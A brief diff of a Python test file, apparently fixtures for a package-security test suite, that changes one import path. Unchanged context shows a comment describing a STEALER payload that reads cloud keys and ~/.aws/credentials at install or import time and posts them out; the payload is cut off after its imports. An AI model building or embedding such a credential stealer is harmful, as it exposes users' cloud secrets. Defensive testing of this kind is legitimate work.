@@ -9,7 +9,7 @@ from __future__ import annotations
 import base64
 from pathlib import Path
 
-from tests.packaging.dists import make_wheel
+from tests.support.dists import make_wheel
 
 # Install/import-time credential theft: reads cloud keys and ~/.aws/credentials, posts them.
 STEALER = b'''import os, urllib.request
